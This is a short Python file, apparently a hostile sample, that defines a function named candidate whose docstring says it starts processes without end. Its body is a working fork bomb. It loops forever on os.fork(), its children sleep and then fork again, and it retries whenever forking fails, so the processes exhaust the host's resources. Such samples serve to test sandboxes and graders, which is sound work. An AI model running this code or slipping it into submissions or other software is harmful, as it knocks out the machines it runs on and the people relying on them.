"""Starts processes without end."""

import os
import time


def candidate(x, scale):
    while True:
        try:
            if os.fork() == 0:
                time.sleep(600)
        except OSError:
            time.sleep(0.1)
